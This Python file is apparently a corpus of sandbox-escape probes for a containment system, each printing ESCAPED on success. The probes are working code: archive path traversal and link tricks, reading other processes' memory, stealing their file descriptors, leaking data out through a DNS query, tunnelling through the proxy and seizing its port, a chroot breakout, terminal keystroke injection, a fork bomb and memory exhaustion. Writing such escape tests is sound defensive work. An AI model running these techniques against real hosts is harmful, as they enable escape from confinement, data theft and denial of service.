"""What the attempts of the corpus do that takes more than a shell; prints ESCAPED when it got out."""

from __future__ import annotations

import contextlib
import ctypes
import io
import os
import platform
import signal
import socket
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
OUTSIDE = "../../../../../outside"
_X86 = platform.machine() == "x86_64"
NUMBERS = {
    "keyctl": 250 if _X86 else 219, "init_module": 175 if _X86 else 105, "bpf": 321 if _X86 else 280,
    "reboot": 169 if _X86 else 142, "pidfd_open": 434, "pidfd_getfd": 438, "process_vm_readv": 310 if _X86 else 270,
}  # fmt: skip
EINVAL, ENOEXEC = 22, 8


def main() -> None:
    name, *arguments = sys.argv[1:]
    for family, what in (("tar-", _tar), ("zip-", _zip)):
        if name.startswith(family):
            what(name.removeprefix(family))
            return
    ATTACKS[name](*arguments)


def escaped(proof: bool) -> None:
    if proof:
        print("ESCAPED", flush=True)


def _call(name: str, *arguments: object) -> int:
    return int(LIBC.syscall(ctypes.c_long(NUMBERS[name]), *arguments))


def _tar(kind: str) -> None:
    with tarfile.open("a.tar", "w") as archive:
        entry = tarfile.TarInfo()
        if kind == "parent":
            entry.name = f"{OUTSIDE}/new.txt"
        elif kind == "absolute":
            entry.name = str((Path.cwd() / OUTSIDE / "new.txt").resolve())
        elif kind == "link":
            link = tarfile.TarInfo("away")
            link.type, link.linkname = tarfile.SYMTYPE, OUTSIDE
            archive.addfile(link)
            entry.name = "away/new.txt"
        elif kind == "hard-link":
            entry.name, entry.type, entry.linkname = "stolen", tarfile.LNKTYPE, f"{OUTSIDE}/secret.txt"
        elif kind == "device":
            entry.name, entry.type, entry.devmajor, entry.devminor = "disk", tarfile.BLKTYPE, 254, 0
        entry.size = 1 if entry.isreg() else 0
        archive.addfile(entry, io.BytesIO(b"x"))


def _zip(kind: str) -> None:
    with zipfile.ZipFile("a.zip", "w") as archive:
        if kind == "parent":
            archive.writestr(f"{OUTSIDE}/new.txt", "x")
        else:
            entry = zipfile.ZipInfo("link")
            entry.create_system, entry.external_attr = 3, 0o120777 << 16
            archive.writestr(entry, f"{OUTSIDE}/secret.txt")


def unzip_naively() -> None:
    with zipfile.ZipFile("a.zip") as archive:
        for name in archive.namelist():
            Path(name).write_bytes(archive.read(name))


def memory(pid: str) -> None:
    """All that can be read of another process's memory."""
    with Path(f"/proc/{pid}/maps").open() as maps, Path(f"/proc/{pid}/mem").open("rb", 0) as mem:
        for line in maps:
            start, _, end = line.split()[0].partition("-")
            if "rw-p" in line:
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    mem.seek(int(start, 16))
                    _show(mem.read(min(int(end, 16) - int(start, 16), 1 << 22)))


def _show(data: bytes) -> None:
    at = data.find(b"CANARY")
    if at >= 0:
        print(data[at : at + 40].decode("latin-1"))


def open_to_write(*paths: str) -> None:
    """Opens what is there for writing, and writes nothing."""
    for path in paths:
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY))
            escaped(True)


def open_to_read(*paths: str) -> None:
    for path in paths:
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            escaped(True)


def tcp(host: str, port: str) -> None:
    with socket.create_connection((host, int(port)), timeout=2) as there:
        there.sendall(b"CALL")


def udp(host: str, port: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        there.sendto(b"CALL", (host, int(port)))


def dns(host: str, port: str) -> None:
    """A question whose name carries a secret out."""
    question = b"\0\1\1\0\0\1\0\0\0\0\0\0\4CALL\3lao\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        there.sendto(question, (host, int(port)))


def unix(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as there:
        there.connect(path)
        there.sendall(b"CALL")


def abstract(name: str) -> None:
    unix("\0" + name)


def _asked_of_the_proxy(request: bytes) -> bytes | None:
    """All that the proxy says within a while; None where there is none."""
    place = os.environ.get("HTTP_PROXY", "").removeprefix("http://").split(":")
    if len(place) != 2:
        return None
    answer = b""
    with socket.create_connection((place[0], int(place[1])), timeout=3) as there, contextlib.suppress(OSError):
        there.sendall(request)
        while block := there.recv(9999):
            answer += block
    return answer


def connect_by(target: str, *door: str) -> None:
    """A tunnel to what may not be reached; where there is no proxy, the door at once."""
    answer = _asked_of_the_proxy(f"CONNECT {target} HTTP/1.1\r\n\r\nCALL".encode())
    if answer is None and door:
        tcp(*door)
    escaped(answer is not None and answer.split(b"\r\n")[0].endswith(b"established"))


def ask_by(text: str, *door: str) -> None:
    """A request as it stands; what the site answers is shown."""
    answer = _asked_of_the_proxy(text.encode().decode("unicode_escape").encode("latin-1"))
    if answer is None and door:
        tcp(*door)
    print((answer or b"").decode("latin-1"))


def take_channel() -> None:
    """The sockets that other processes hold, among them the one over which LAO was given the door."""
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) not in (os.getpid(), os.getppid()):
            process = _call("pidfd_open", int(entry.name), 0)
            for number in range(64) if process >= 0 else ():
                taken = _call("pidfd_getfd", process, number, 0)
                if taken >= 0 and "socket:" in str(Path(f"/proc/self/fd/{taken}").readlink()):
                    escaped(True)


def take_door() -> None:
    """Its place on the loopback, for a listener that would hear what others ask the proxy."""
    port = int(os.environ["HTTP_PROXY"].rpartition(":")[2])
    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
        with socket.socket() as other, contextlib.suppress(OSError):
            other.setsockopt(socket.SOL_SOCKET, option, 1)
            other.bind(("127.0.0.1", port))
            other.listen()
            escaped(True)


def daemon(seconds: str) -> None:
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for handle in range(3):
        os.close(handle)
    os.execve("/bin/sleep", ["sleep", seconds], {})


def sigqueue(pid: str) -> None:
    LIBC.sigqueue(int(pid), signal.SIGKILL, None)


def ptrace(pid: str) -> None:
    seize = 0x4206
    escaped(LIBC.ptrace(seize, int(pid), None, None) == 0)


def process_read(pid: str) -> None:
    class Place(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        start, end = (int(n, 16) for n in line.split()[0].split("-"))
        size = min(end - start, 1 << 22)
        buffer = ctypes.create_string_buffer(size)
        here, there = Place(ctypes.addressof(buffer), size), Place(start, size)
        if "rw-p" in line and _call("process_vm_readv", int(pid), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            _show(buffer.raw)


def getfd(pid: str, number: str) -> None:
    process = _call("pidfd_open", int(pid), 0)
    handle = _call("pidfd_getfd", process, int(number), 0) if process >= 0 else -1
    if handle >= 0:
        os.lseek(handle, 0, os.SEEK_SET)
        print(os.read(handle, 1000).decode())


def chroot_breakout(path: str) -> None:
    """The old way out of a chroot: another one, while the working folder stays outside."""
    Path("jail").mkdir(exist_ok=True)
    os.chroot("jail")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print(Path(path).read_text())


def module() -> None:
    _call("init_module", b"no module", 9, b"")
    escaped(ctypes.get_errno() == ENOEXEC)


def keyring() -> None:
    search, read, of_the_user = 10, 11, -4
    key = _call("keyctl", search, of_the_user, b"user", b"lao-escape", 0)
    if key > 0:
        buffer = ctypes.create_string_buffer(100)
        _call("keyctl", read, key, buffer, 100, 0)
        print(buffer.value.decode())


def host_name(of_the_host: str) -> None:
    name = socket.gethostname().encode()
    if LIBC.sethostname(name, len(name)) == 0:
        escaped(str(Path("/proc/self/ns/uts").readlink()) == of_the_host)


def shared_memory(key: str) -> None:
    LIBC.shmat.restype = ctypes.c_void_p
    place = LIBC.shmat(LIBC.shmget(int(key), 0, 0), None, 0o10000)
    if place not in (None, ctypes.c_void_p(-1).value):
        print(ctypes.string_at(place, 40).decode())


def bpf() -> None:
    attributes = (ctypes.c_uint32 * 16)(1, 4, 4, 1)
    escaped(_call("bpf", 0, ctypes.byref(attributes), 64) >= 0)


def handle(path: str) -> None:
    """The file by its number, past the path (open_by_handle_at)."""
    record = ctypes.create_string_buffer((128).to_bytes(4, sys.byteorder) + bytes(132), 136)
    mount = ctypes.c_int()
    if LIBC.name_to_handle_at(-100, path.encode(), record, ctypes.byref(mount), 0) == 0:
        opened = LIBC.open_by_handle_at(os.open(".", os.O_RDONLY), record, 0)
        if opened >= 0:
            print(os.read(opened, 100).decode())


def reboot() -> None:
    """A command that does not exist: refused before or after the right to it was asked for."""
    _call("reboot", ctypes.c_uint(0xFEE1DEAD), ctypes.c_uint(672274793), ctypes.c_uint(0x1234), None)
    escaped(ctypes.get_errno() == EINVAL)


def tiocsti() -> None:
    import fcntl

    for number in range(3):
        with contextlib.suppress(OSError):
            fcntl.ioctl(number, 0x5412, b"x")
            escaped(True)
    with contextlib.suppress(OSError):
        fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, b"x")
        escaped(True)


def pts(name: str) -> None:
    os.write(os.open(name, os.O_WRONLY | os.O_NOCTTY), b"CALL\n")


def forks(wanted: str) -> None:
    """Bounded: each child lives for six seconds at most."""
    made = 0
    for _ in range(int(wanted)):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                signal.alarm(6)
                signal.pause()
            made += 1
    signal.alarm(6)
    escaped(made > 1000)
    signal.pause()


def memory_fill(megabytes: str) -> None:
    held = [bytearray(os.urandom(1) * (1 << 20)) for _ in range(int(megabytes))]
    escaped(len(held) == int(megabytes))


ATTACKS: dict[str, Callable[..., None]] = {
    name.replace("_", "-"): what
    for name, what in list(globals().items())
    if callable(what) and not name.startswith("_") and name not in ("main", "escaped", "Path", "Callable")
}

if __name__ == "__main__":
    main()
